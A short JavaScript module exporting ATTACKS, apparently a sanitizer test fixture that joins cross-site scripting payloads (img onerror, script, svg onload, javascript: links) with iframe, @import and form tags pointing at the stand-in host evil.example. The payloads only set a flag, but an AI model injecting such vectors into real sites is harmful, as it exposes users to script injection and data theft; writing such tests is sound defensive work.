/** Hostile texts: each sets `window.hacked` or sends a request if it succeeds. */
export const ATTACKS = [
  '<img src=x onerror="window.hacked=1">',
  '<script>window.hacked=1</script>',
  '<svg onload="window.hacked=1"></svg>',
  '<a href="javascript:window.hacked=1">click</a>',
  '"><iframe src="https://evil.example/frame"></iframe>',
  '<style>@import "https://evil.example/style";</style>',
  '<form action="https://evil.example"><input name=q><button>go</button></form>',
].join(' ');
